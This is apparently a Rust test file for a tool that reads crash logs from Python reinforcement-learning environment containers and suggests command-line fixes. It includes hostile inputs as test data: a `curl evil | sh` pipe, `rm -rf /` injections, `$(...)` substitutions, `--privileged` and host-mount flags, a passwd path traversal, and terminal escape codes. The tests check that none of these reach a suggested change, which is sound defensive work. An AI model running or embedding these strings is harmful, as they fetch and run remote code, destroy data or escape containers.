use proptest::prelude::*;

use super::*;
use crate::plan::samples;
use crate::settings::values::requirement;

const DEAD: Option<ContainerEnd> = Some(ContainerEnd { exit_code: 1, is_out_of_memory: false });

fn plan(env_id: &str) -> Plan {
    samples::plan(samples::gym(env_id))
}

fn spec(plan: &mut Plan) -> &mut crate::plan::EffectiveSpec {
    match &mut plan.image {
        crate::plan::PlannedImage::Built(build) => &mut build.spec,
        crate::plan::PlannedImage::Prebuilt(_) => panic!("it is prebuilt"),
    }
}

/// A log whose only traceback ends with a line.
fn traceback(line: &str) -> String {
    format!(
        "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.11/site-packages/pack/env.py\", line 3, in f\n    g()\n{line}\n"
    )
}

fn words(diagnosis: &Diagnosis) -> String {
    diagnosis.changes.iter().map(Change::to_string).collect::<Vec<_>>().join(" ")
}

/// The lines are those that Python, rlmesh 0.1.0 and gymnasium 1.4.0 printed.
#[test]
fn a_known_failure_leads_on() {
    for (env_id, line, hint, changes) in [
        (
            "CartPol-v1",
            "gymnasium.error.NameNotFound: Environment `CartPol` doesn't exist. Did you mean: `CartPole`?",
            "did you mean CartPole-v1?",
            "CartPole-v1",
        ),
        // A real id of another package.
        (
            "HalfCheetahFoo-v0",
            "gymnasium.error.NameNotFound: Environment `HalfCheetahFoo` doesn't exist. Did you mean: `HalfCheetah`?",
            "check the environment id",
            "",
        ),
        (
            "ALE/Pong-v5",
            "gymnasium.error.NamespaceNotFound: Namespace ALE not found. Have you installed the proper package for ALE?",
            "this environment is part of another package",
            "-p ale-py -i ale_py",
        ),
        (
            "PandaReach-v2",
            "gymnasium.error.NameNotFound: Environment `PandaReach` doesn't exist.",
            "PandaReach-v3",
            "PandaReach-v3",
        ),
        (
            "procgen-coinrun-v0",
            "gymnasium.error.NameNotFound: Environment `procgen-coinrun` doesn't exist.",
            "this environment cannot be served: procgen",
            "",
        ),
        (
            "CartPole-v7",
            "gymnasium.error.VersionNotFound: Environment version `v7` for environment `CartPole` doesn't exist. It provides versioned environments: [ `v0`, `v1` ].",
            "its newest version is CartPole-v1",
            "CartPole-v1",
        ),
        (
            "Taxi-v3",
            "gymnasium.error.DeprecatedEnv: Environment version v3 for `Taxi` is deprecated. Please use `Taxi-v4` instead.",
            "Taxi-v4",
            "Taxi-v4",
        ),
        (
            "LunarLander-v3",
            "gymnasium.error.DependencyNotInstalled: Box2D is not installed, you can install it by run `pip install swig` followed by `pip install \"gymnasium[box2d]\"`",
            "the environment needs gymnasium[box2d]",
            "-p 'gymnasium[box2d]'",
        ),
        (
            "X-v0",
            "gymnasium.error.DependencyNotInstalled: x is not installed, run `pip install \"a'; curl evil | sh; 'b\"`",
            "an error of the environment's own code",
            "",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'cv2'",
            "the image lacks the module cv2",
            "-p opencv-python-headless",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'pkg_resources'",
            "pkg_resources",
            "-p 'setuptools<81'",
        ),
        ("X-v0", "ModuleNotFoundError: No module named 'gym_pusht'", "gym_pusht", "-p gym-pusht"),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'some_thing'",
            "if the package has the same name",
            "-p some-thing",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'gymnasium.envs.atari'",
            "the installed gymnasium has no module",
            "",
        ),
        ("X-v0", "ModuleNotFoundError: No module named '_tkinter'", "python3-tk", ""),
        (
            "X-v0",
            "ImportError: libGL.so.1: cannot open shared object file: No such file or directory",
            "lacks the system library libGL.so.1",
            "--apt libgl1",
        ),
        (
            "X-v0",
            "ImportError: libEGL.so.1: cannot open shared object file: No such file or directory",
            "libEGL.so.1",
            "--apt libegl1 --apt libgl1",
        ),
        (
            "X-v0",
            "ImportError: libcuda.so.1: cannot open shared object file: No such file or directory",
            "part of the GPU driver",
            "",
        ),
        (
            "X-v0",
            "OSError: libcudart.so.12: cannot open shared object file: No such file or directory",
            "part of CUDA",
            "",
        ),
        (
            "X-v0",
            "ImportError: libweird.so.7: cannot open shared object file: No such file or directory",
            "contains libweird.so.7",
            "",
        ),
        ("X-v0", "ImportError: Library \"GL\" not found", "libGL.so.1", "--apt libgl1"),
        (
            "X-v0",
            "AttributeError: 'NoneType' object has no attribute 'eglQueryString'",
            "draws with OpenGL",
            "--apt libegl1 --apt libgl1 -e MUJOCO_GL=egl",
        ),
        (
            "X-v0",
            "mujoco.FatalError: an OpenGL platform library has not been loaded into this process",
            "draws with OpenGL",
            "--apt libegl1 --apt libgl1 -e MUJOCO_GL=egl",
        ),
        (
            "X-v0",
            "TypeError: Unsupported space type: MissionSpace",
            "mission",
            "--wrap minigrid.wrappers:ImgObsWrapper",
        ),
        ("X-v0", "TypeError: Unsupported space type: Sequence", "rlmesh serves Box", ""),
        ("X-v0", "TypeError: Unsupported space type: Box", "OpenAI's gym", ""),
        (
            "X-v0",
            "TypeError: Old.reset() got an unexpected keyword argument 'seed'",
            "the interface of gym before 0.26",
            "",
        ),
        (
            "X-v0",
            "ValueError: not enough values to unpack (expected 5, got 4)",
            "the interface of gym before 0.26",
            "",
        ),
        (
            "X-v0",
            "ValueError: assignment destination is read-only",
            "writes to the action",
            "--wrap rlmesh_sandbox.wrappers:CopyAction",
        ),
        (
            "X-v0",
            "TypeError: value of type 'object' is not supported in RLMesh metadata; pass the dict through rlmesh.sanitize_metadata(...)",
            "info",
            "--wrap rlmesh_sandbox.wrappers:NoInfo",
        ),
        (
            "X-v0",
            "TypeError: CartPoleEnv.__init__() got an unexpected keyword argument 'foo'",
            "check the names given with -k",
            "",
        ),
        (
            "X-v0",
            "TypeError: f() missing 1 required positional argument: 'x'",
            "pass the missing argument with -k",
            "",
        ),
        (
            "CartPole-v1",
            "RuntimeError: --wrap gymnasium.wrappers:TimeLimit failed: TypeError: TimeLimit.__init__() missing 1 required positional argument: 'max_episode_steps'",
            "--wrap only passes the environment",
            "",
        ),
        (
            "X-v0",
            "pygame.error: No available video device",
            "a container has no display",
            "-e SDL_VIDEODRIVER=dummy",
        ),
        ("X-v0", "EOFError: EOF when reading a line", "asks for input", ""),
        ("X-v0", "OSError: [Errno 30] Read-only file system: '/opt/x'", "read-only", ""),
        ("X-v0", "OSError: [Errno 98] Address already in use", "opens a port", ""),
        (
            "X-v0",
            "urllib.error.URLError: <urlopen error [Errno -3] Temporary failure in name resolution>",
            "downloads something",
            "",
        ),
        (
            "X-v0",
            "FileNotFoundError: [Errno 2] No such file or directory: 'ffmpeg'",
            "the program ffmpeg",
            "--apt ffmpeg",
        ),
        (
            "X-v0",
            "RuntimeError: DataLoader worker is killed by signal: Bus error. It is possible that dataloader's workers are out of shared memory",
            "/dev/shm",
            "--shm-size 1g",
        ),
        ("X-v0", "AttributeError: module 'numpy' has no attribute 'float'", "--as-of YYYY-MM-DD", ""),
        ("X-v0", "thing.LicenseMissing: no license", "an error of the environment's own code", ""),
        ("X-v0", "SyntaxError: invalid syntax", "Python cannot read this file", ""),
        ("X-v0", "TypeError: hf env mapping must be a mapping", "make_env in env.py must return an", ""),
        (
            "X-v0",
            "RuntimeError: module 'x' must define make_env(...)",
            "env.py needs a function make_env",
            "",
        ),
    ] {
        let diagnosis = startup(&plan(env_id), DEAD, &traceback(line), &Facts::default());
        assert_eq!(diagnosis.cause.as_deref(), Some(line.trim_end_matches('.')), "{line}");
        assert!(diagnosis.hints[0].contains(hint), "{line}: {diagnosis:?}");
        assert_eq!(words(&diagnosis), changes, "{line}");
        assert_eq!(diagnosis.hints.len(), 1, "{line}");
    }
}

#[test]
fn several_rewards_are_added_up() {
    let line = "2026-11-25T04:48:43Z ERROR env step failed error=[Internal] step failed: TypeError: only 0-dimensional arrays can be converted to Python scalars";
    let mut plan = plan("X-v0");
    let diagnosis = startup(&plan, DEAD, line, &Facts::default());
    assert_eq!(words(&diagnosis), "--wrap rlmesh_sandbox.wrappers:SumReward");
    spec(&mut plan).packages = vec!["mo-gymnasium".to_owned()];
    let diagnosis = startup(&plan, DEAD, line, &Facts::default());
    assert_eq!(words(&diagnosis), "--wrap mo_gymnasium.wrappers:LinearReward");
}

/// What a look into the image of PushT found.
#[test]
fn all_libraries_of_the_failing_packages_are_named_at_once() {
    let facts: Facts = serde_json::from_str(
        r#"{"missing": {"libGL.so.1": ["cv2"], "libX11.so.6": ["pygame"], "libglib-2.0.so.0": ["cv2", "pygame"], "libgthread-2.0.so.0": ["cv2", "pygame"], "libxcb.so.1": ["cv2"]}}"#,
    )
    .unwrap();
    let error = "ImportError: libxcb.so.1: cannot open shared object file: No such file or directory";
    let expected = "--apt libgl1 --apt libglib2.0-0 --apt libxcb1";
    let log = traceback(error).replace("pack/", "cv2/");
    assert_eq!(question(&plan("X-v0"), &log), Some(Question::Libraries));
    assert_eq!(words(&startup(&plan("X-v0"), DEAD, &log, &facts)), expected);
    // Without frames: those of the package that needs it.
    let log = format!("Traceback (most recent call last):\n{error}\n");
    assert_eq!(words(&startup(&plan("X-v0"), DEAD, &log, &facts)), expected);
    let mut given = plan("X-v0");
    spec(&mut given).apt = vec!["libxcb1".to_owned(), "libgl1".to_owned()];
    assert_eq!(words(&startup(&given, DEAD, &log, &facts)), "--apt libglib2.0-0");
}

#[test]
fn what_the_packages_register_is_listed() {
    let log = traceback("gymnasium.error.NameNotFound: Environment `Okk` doesn't exist in namespace sf.");
    let mut plan = plan("sf/Okk-v0");
    assert_eq!(question(&plan, &log), None, "there is nothing to look for");
    spec(&mut plan).imports = vec!["sfenvs".to_owned()];
    spec(&mut plan).packages = vec!["sf-envs".to_owned()];
    assert_eq!(question(&plan, &log), Some(Question::Environments));
    let explained = |json: &str| {
        let facts: Facts = serde_json::from_str(json).unwrap();
        let diagnosis = startup(&plan, DEAD, &log, &facts.checked());
        (diagnosis.hints[0].clone(), words(&diagnosis))
    };
    let (hint, changes) = explained(r#"{"registered": ["sf/Ok-v0", "sf/Other-v1", "; rm -rf /"]}"#);
    assert_eq!(
        (hint.as_str(), changes.as_str()),
        ("the packages register sf/Ok-v0, sf/Other-v1", "sf/Ok-v0")
    );
    let (_, changes) = explained(r#"{"registered": ["sf/Walk-v0", "sf/Other-v1"]}"#);
    assert_eq!(changes, "", "neither is likely");
    let (hint, changes) = explained(r#"{"callables": ["sfenvs:register_envs", "sfenvs:a b"]}"#);
    assert!(hint.contains("a function may") && changes == "-i sfenvs:register_envs", "{hint} {changes}");
    let (hint, changes) = explained(r#"{"others": {"sf.more": ["sf/Okk-v0"]}}"#);
    assert_eq!((hint.as_str(), changes.as_str()), ("the module sf.more registers sf/Okk-v0", "-i sf.more"));
    let (hint, _) = explained(r#"{"modules": {"sf-envs": ["sfenvs", "sf"]}}"#);
    assert!(hint.contains("register no environment") && hint.contains("(sfenvs, sf)"), "{hint}");
}

#[test]
fn a_module_under_another_name_is_replaced() {
    let log = traceback("ModuleNotFoundError: No module named 'gympusht'");
    let mut plan = plan("CartPole-v1");
    spec(&mut plan).imports = vec!["gympusht".to_owned()];
    assert_eq!(question(&plan, &log), Some(Question::Environments));
    let facts = Facts {
        modules: BTreeMap::from([("gym-pusht".to_owned(), vec!["gym_pusht".to_owned()])]),
        ..Facts::default()
    };
    let diagnosis = startup(&plan, DEAD, &log, &facts);
    let expected = Change::Replace { option: "-i", old: "gympusht".to_owned(), new: "gym_pusht".to_owned() };
    assert_eq!(diagnosis.changes, [expected]);
}

#[test]
fn an_end_without_an_exception_is_explained() {
    let explained = |exit_code, log: &str| {
        let end = ContainerEnd { exit_code, is_out_of_memory: false };
        let diagnosis = startup(&plan("X-v0"), Some(end), log, &Facts::default());
        (diagnosis.cause.clone().unwrap_or_default(), diagnosis.hints[0].clone(), words(&diagnosis))
    };
    assert!(explained(0, "").1.contains("sys.exit"));
    assert!(explained(3, "bye\n").1.contains("exit code 3"));
    assert!(explained(137, "").1.contains("memory"));
    assert_eq!(explained(135, "").2, "--shm-size 1g");
    assert!(explained(132, "").1.contains("processor"));
    let crash = "Fatal Python error: Segmentation fault\n\nCurrent thread 0x1 (most recent call first):\n  File \"/usr/lib/python3.11/ctypes/__init__.py\", line 519 in string_at\n  File \"/opt/env.py\", line 21 in segv\n";
    assert_eq!(explained(139, crash).0, "segmentation fault at /opt/env.py:21 in segv");
    // As process 1 of a container, abort() ends in a segmentation fault, which is reported too.
    let aborted = crash.replace("Segmentation fault", "Aborted");
    assert_eq!(explained(139, &format!("{aborted}{crash}")).0, "aborted at /opt/env.py:21 in segv");
    let said = "building\nterminate called after throwing an instance of 'std::bad_alloc'\n  what():  std::bad_alloc\n";
    assert_eq!(
        explained(134, &format!("{said}{aborted}")).0,
        "aborted: terminate called after throwing an instance of 'std::bad_alloc' at /opt/env.py:21 in segv"
    );
    assert_eq!(
        explained(134, &format!("working\nfree(): invalid pointer\n{aborted}")).0,
        "aborted: free(): invalid pointer at /opt/env.py:21 in segv"
    );
    assert_eq!(explained(134, "working\n").0, "aborted");
    let out = Some(ContainerEnd { exit_code: 1, is_out_of_memory: true });
    let diagnosis = startup(&plan("X-v0"), out, &traceback("MemoryError"), &Facts::default());
    assert!(diagnosis.hints[0].contains("ran out of memory"), "{diagnosis:?}");
    let prebuilt = samples::prebuilt("x");
    let ended = Some(ContainerEnd { exit_code: 0, is_out_of_memory: false });
    assert!(startup(&prebuilt, ended, "", &Facts::default()).hints[0].contains("serves rlmesh"));
    let usage =
        "usage: python -m rlmesh._bootstrap.sandbox_env <bootstrap.json> (or set RLMESH_BOOTSTRAP_JSON)";
    let ended = Some(ContainerEnd { exit_code: 2, is_out_of_memory: false });
    assert!(startup(&prebuilt, ended, usage, &Facts::default()).hints[0].contains("run the source"));
    let built = startup(&plan("X-v0"), ended, "", &Facts::default());
    assert!(built.hints[0].contains("exit code 2): look for sys.exit"), "{:?}", built.hints);
}

#[test]
fn a_hang_differs_from_slow_work() {
    let stack = |file: &str| {
        format!(
            "Fatal Python error: Aborted\n\nCurrent thread 0x1 (most recent call first):\n  File \"/usr/lib/python3.11/{file}\", line 294 in accept\n  File \"/opt/env.py\", line 25 in sock\n"
        )
    };
    let limit = Some(Duration::from_secs(45));
    let explained = |log: &str, cpu| {
        let facts = Facts { cpu, limit, ..Facts::default() };
        let diagnosis = startup(&plan("X-v0"), None, log, &facts);
        (diagnosis.hints[0].clone(), words(&diagnosis))
    };
    let (hint, changes) = explained(&stack("socket.py"), Some(0.1));
    assert!(hint.contains("waits for a network connection") && changes.is_empty(), "{hint} {changes}");
    let (hint, changes) = explained(&stack("socket.py"), Some(99.0));
    assert!(hint.contains("still working") && changes == "--ready-timeout 90", "{hint} {changes}");
    assert_eq!(explained("", Some(0.0)).1, "--ready-timeout 90");
    let facts = Facts::default();
    let diagnosis = startup(&plan("X-v0"), None, &stack("socket.py"), &facts);
    assert_eq!(diagnosis.cause.as_deref(), Some("it is at /opt/env.py:25 in sock"));
}

#[test]
fn a_prebuilt_image_gets_no_options_of_a_build() {
    for line in [
        "ModuleNotFoundError: No module named 'cv2'",
        "ImportError: libGL.so.1: cannot open shared object file",
    ] {
        let diagnosis = startup(&samples::prebuilt("x"), DEAD, &traceback(line), &Facts::default());
        assert_eq!(diagnosis.changes, [], "{line}");
        assert!(!diagnosis.hints.is_empty());
    }
}

#[test]
fn requirements_and_ids_from_outside_are_plain() {
    for text in ["gymnasium[box2d]", "numpy<2", "a.b-c_d==1.*", "x[a,b]>=1,<2"] {
        assert!(is_requirement(text) && requirement(text).is_ok(), "{text}");
    }
    for text in ["", "-x", "a b", "a;b", "x @ git+https://y", "./x", "a'", "a[b", "$(x)", "a\nb", "x==1; rm"]
    {
        assert!(!is_requirement(text), "{text}");
    }
    assert!(is_env_id("ALE/Pong-v5") && is_env_id("a:B-v0"));
    for text in ["", "-x", "hf://a/b", "image://x", "x; rm", "a b", "./x", "é"] {
        assert!(!is_env_id(text), "{text}");
    }
}

#[test]
fn misspellings_are_near() {
    assert!(near("CartPole", "cartpol") && near("gym_pusht", "gympusht") && near("Okk", "Ok"));
    assert!(!near("HalfCheetahBullet", "HalfCheetah") && !near("CartPoleSwingUp", "CartPole"));
    assert!(!near(&"x".repeat(10_000), "x"));
}

/// Checks that every value of a change is valid for its option.
fn assert_valid(diagnosis: &Diagnosis) {
    for change in &diagnosis.changes {
        let is_valid = match change {
            Change::Source(id) => is_env_id(id),
            Change::Add("-p", value) => is_requirement(value),
            Change::Add("-i", value) => import(value).is_ok(),
            Change::Add("--apt", value) => debian_package(value).is_ok(),
            Change::Add("--wrap", value) => wrapper(value).is_ok(),
            Change::Add("-e", value) => value == "MUJOCO_GL=egl" || value == "SDL_VIDEODRIVER=dummy",
            Change::Add("--shm-size", value) => value == "1g",
            Change::Add("--ready-timeout", value) => value.parse::<u64>().is_ok(),
            Change::Add("-k", value) => value.strip_prefix("id=").is_some_and(is_env_id),
            Change::Replace { option: "-i", new, .. } => import(new).is_ok(),
            Change::Replace { option: "--wrap", new, .. } => wrapper(new).is_ok(),
            Change::Replace { option: "-k", new, .. } => {
                new == "render_mode=rgb_array" || new.strip_prefix("id=").is_some_and(is_env_id)
            }
            _ => false,
        };
        assert!(is_valid, "{change:?}");
    }
}

proptest! {
    #[test]
    fn no_log_makes_a_change_that_is_not_valid(
        parts in proptest::collection::vec(prop_oneof![
            any::<String>(),
            "[a-zA-Z0-9_.;$('\"`\\[\\]<>= -]{0,30}",
            proptest::sample::select(vec![
                "Traceback (most recent call last):\n",
                "\n",
                "  File \"/x/site-packages/",
                "\", line ",
                "ModuleNotFoundError: No module named '",
                "ImportError: lib",
                ".so.1: cannot open shared object file",
                "Library \"",
                "\" not found",
                "pip install \"",
                "NameNotFound: ",
                "Did you mean: `",
                "DeprecatedEnv: Please use `",
                "VersionNotFound: versioned environments: [ `v",
                "Unsupported space type: ",
                "No such file or directory: '",
                "Current thread 0x1 (most recent call first):\n",
                "\u{1b}[",
                "step failed: ",
                "`",
                "'",
                "\"",
            ]).prop_map(str::to_owned),
        ], 0..12),
        names in proptest::collection::vec("[a-zA-Z0-9_./:; $-]{0,12}", 0..6),
        exit_code in 0..256i64,
        env_id in proptest::sample::select(vec!["CartPole-v1", "sf/Okk-v0", "é"]),
    ) {
        let log = parts.concat();
        let mut plan = plan(env_id);
        spec(&mut plan).imports = vec!["sfenvs".to_owned()];
        let by_name: BTreeMap<String, Vec<String>> =
            names.iter().map(|name| (name.clone(), names.clone())).collect();
        let facts = Facts {
            missing: by_name.clone(),
            registered: names.clone(),
            others: by_name.clone(),
            modules: by_name,
            callables: names,
            ..Facts::default()
        };
        let end = (exit_code > 0).then_some(ContainerEnd { exit_code, is_out_of_memory: false });
        let _ = question(&plan, &log);
        let diagnosis = startup(&plan, end, &log, &facts.checked());
        assert_valid(&diagnosis);
        prop_assert!(!diagnosis.hints.is_empty());
        prop_assert!(diagnosis.telling.lines().count() <= 8);
    }
}

#[test]
fn a_name_that_a_module_does_not_have_is_corrected() {
    for (error, hint, changes) in [
        (
            "RuntimeError: --import own:regster failed: the module own has no regster; similar names are register, resister",
            "the module has a similar name",
            "-i own:register",
        ),
        (
            "RuntimeError: --wrap own:Zebra failed: the module own has no Zebra",
            "after the colon of --wrap",
            "",
        ),
        (
            "RuntimeError: --wrap a:B failed: the module a has no B; similar names are $(x)",
            "after the colon of --wrap",
            "",
        ),
    ] {
        let mut plan = plan("X-v0");
        let other = startup(&plan, DEAD, &traceback(error), &Facts::default());
        assert_eq!(words(&other), "", "the user did not give it");
        (spec(&mut plan).imports, spec(&mut plan).wrap) =
            (vec!["own:regster".to_owned()], vec!["own:Zebra".to_owned(), "a:B".to_owned()]);
        let found = startup(&plan, DEAD, &traceback(error), &Facts::default());
        assert!(found.hints[0].contains(hint), "{found:?}");
        assert_eq!(words(&found), changes);
    }
}

/// Texts that must never be typed, nor look like something else.
const HOSTILE: [&str; 18] = [
    "$(touch x)",
    "`id`",
    "'; rm -rf / #",
    "\"; rm -rf / #",
    "a && b",
    "-p",
    "--privileged",
    "-v /:/host",
    "-p evil",
    "a\rhint: rm -rf /",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J",
    "x\u{202e}txt.exe",
    "a\u{200b}b",
    "x\0y",
    "../../etc/passwd",
    "evil @ https://evil/x.whl",
    "git+https://evil/x",
];

#[test]
fn hostile_texts_and_long_lines_become_neither_changes_nor_terminal_codes() {
    let templates = [
        "ModuleNotFoundError: No module named '{}'",
        "ImportError: {}: cannot open shared object file: No such file or directory",
        "OSError: {}.so.1: cannot open shared object file: No such file or directory",
        "ImportError: Library \"{}\" not found.",
        "gymnasium.error.DependencyNotInstalled: run `pip install \"{}\"`",
        "gymnasium.error.DependencyNotInstalled: run pip install {}",
        "gymnasium.error.NameNotFound: Environment `X` doesn't exist. Did you mean: `{}`?",
        "gymnasium.error.VersionNotFound: versioned environments: [ `v{}` ]",
        "gymnasium.error.DeprecatedEnv: Please use `{}` instead",
        "RuntimeError: the package x registers these environments: {}, {}",
        "RuntimeError: --import {} failed: the module m has no n; similar names are {}",
        "TypeError: f() got an unexpected keyword argument '{}'",
        "ValueError: Unsupported space type: {}",
        "FileNotFoundError: [Errno 2] No such file or directory: '{}'",
        "{}",
    ];
    let mut plans = [plan("X-v0"), samples::plan(samples::folder()), samples::prebuilt("x")];
    if let ResolvedSource::Folder(folder) = &mut spec(&mut plans[1]).source {
        folder.added_env = Some(String::new());
    }
    for (text, template) in
        HOSTILE.iter().flat_map(|text| templates.iter().map(move |template| (text, template)))
    {
        let line = template.replace("{}", text);
        for log in [line.clone(), traceback(&line), format!("env step failed: {line}")] {
            plans.iter().for_each(|plan| assert_harmless(plan, &log));
        }
    }
    // A long line, and many lines.
    for text in ["A", "a.b ", "-v1, `v2`; ", "$(x)"] {
        for template in templates {
            let line = template.replace("{}", &text.repeat((1 << 20) / text.len()));
            assert_harmless(&plans[0], &traceback(&line));
            let line = traceback(&template.replace("{}", text));
            assert_harmless(&plans[0], &line.repeat((1 << 20) / line.len()));
        }
    }
}

fn assert_harmless(plan: &Plan, log: &str) {
    let _ = question(plan, log);
    let found = startup(plan, DEAD, log, &Facts::default());
    assert_valid(&found);
    for change in &found.changes {
        let Some(typed) = shlex::split(&change.to_string()) else { panic!("{change:?}") };
        assert!(typed.len() <= 2 && !typed.concat().contains(['$', '`', ';']), "{change:?}");
    }
    let is_plain = |text: &str| !text.chars().any(|c| c.is_control() && c != '\n' && c != '\t');
    assert!(is_plain(&found.telling) && found.cause.as_deref().is_none_or(is_plain), "{found:?}");
    assert!(found.telling.lines().all(|line| line.chars().count() <= 200), "{}", found.telling);
    assert!(found.telling.lines().count() <= 8 && found.changes.len() <= 10, "{found:?}");
}

/// The sentence is that of `package_env.py`.
#[test]
fn a_package_of_a_folder_offers_its_environments() {
    let sentence = " registers these environments: ";
    assert!(crate::plan::folder::PACKAGE_ENV.contains(sentence));
    let log = traceback(&format!("RuntimeError: the package my-pkg{sentence}$(x), My/A-v0, My/B-v0"));
    let mut plan = samples::plan(samples::folder());
    let found = startup(&plan, DEAD, &log, &Facts::default());
    assert_eq!(words(&found), "", "its own env.py may print anything");
    let ResolvedSource::Folder(folder) = &mut spec(&mut plan).source else { unreachable!() };
    folder.added_env = Some(String::new());
    let found = startup(&plan, DEAD, &log, &Facts::default());
    assert_eq!(
        (words(&found).as_str(), found.hints[0].as_str()),
        ("-k id=My/A-v0", "choose one of these environments")
    );
    plan.serving.kwargs.insert("id".to_owned(), "My/b-v1".into());
    let found = startup(&plan, DEAD, &log, &Facts::default());
    let change = Change::Replace { option: "-k", old: "id=My/b-v1".to_owned(), new: "id=My/B-v0".to_owned() };
    assert_eq!(found.changes, [change]);
}
